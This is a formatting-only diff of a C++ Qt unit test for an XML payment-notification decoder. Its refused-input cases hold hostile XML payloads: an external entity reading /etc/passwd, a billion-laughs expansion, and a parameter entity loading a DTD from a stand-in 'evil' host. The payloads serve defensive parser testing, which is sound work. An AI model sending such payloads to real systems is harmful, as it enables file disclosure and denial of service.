@@ -22,12 +22,15 @@ private Q_SLOTS:
 
 void TestXmlNotify::cdataFields()
 {
-    const auto fields = decodeXmlNotify(
-        "<xml><mch_id><![CDATA[10085200000000]]></mch_id>\n  <total_fee><![CDATA[2865]]></total_fee>"
-        "<body><![CDATA[測試產品]]></body><attach><![CDATA[]]></attach></xml>");
+    const auto fields
+        = decodeXmlNotify("<xml><mch_id><![CDATA[10085200000000]]></mch_id>\n  <total_fee><![CDATA[2865]]></total_fee>"
+                          "<body><![CDATA[測試產品]]></body><attach><![CDATA[]]></attach></xml>");
     QVERIFY2(fields, fields ? "" : qPrintable(fields.error().detail));
-    QCOMPARE(*fields, (ParamList{{u"mch_id"_s, u"10085200000000"_s}, {u"total_fee"_s, u"2865"_s},
-                                 {u"body"_s, u"測試產品"_s}, {u"attach"_s, QString()}}));
+    QCOMPARE(*fields,
+             (ParamList{{u"mch_id"_s, u"10085200000000"_s},
+                        {u"total_fee"_s, u"2865"_s},
+                        {u"body"_s, u"測試產品"_s},
+                        {u"attach"_s, QString()}}));
 }
 
 void TestXmlNotify::plainTextAndDeclaration()
@@ -51,13 +54,14 @@ void TestXmlNotify::refused_data()
     QTest::newRow("doctype with external entity")
         << QByteArray("<?xml version=\"1.0\"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
                       "<xml><body>&xxe;</body></xml>");
-    QTest::newRow("billion laughs")
-        << QByteArray("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">"
-                      "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
-                      "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]>"
-                      "<xml><body>&lol3;</body></xml>");
+    QTest::newRow("billion laughs") << QByteArray(
+        "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">"
+        "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
+        "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]>"
+        "<xml><body>&lol3;</body></xml>");
     QTest::newRow("doctype alone") << QByteArray("<!DOCTYPE xml><xml><a>1</a></xml>");
-    QTest::newRow("parameter entity") << QByteArray("<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil/x.dtd\"> %p;]><xml/>");
+    QTest::newRow("parameter entity") << QByteArray(
+        "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil/x.dtd\"> %p;]><xml/>");
     QTest::newRow("undeclared entity") << QByteArray("<xml><body>&foo;</body></xml>");
     QTest::newRow("predefined entity") << QByteArray("<xml><body>a&amp;b</body></xml>");
     QTest::newRow("character reference") << QByteArray("<xml><total_fee>&#50;865</total_fee></xml>");
